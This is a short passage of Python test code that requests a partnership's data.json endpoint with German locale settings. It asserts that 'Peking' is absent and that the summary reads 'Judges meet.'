    document = client.get(f"/partnerships/{partnership.slug}/data.json", **german).json()
    assert "Peking" not in json.dumps(document)
    assert document["summary"] == "Judges meet."
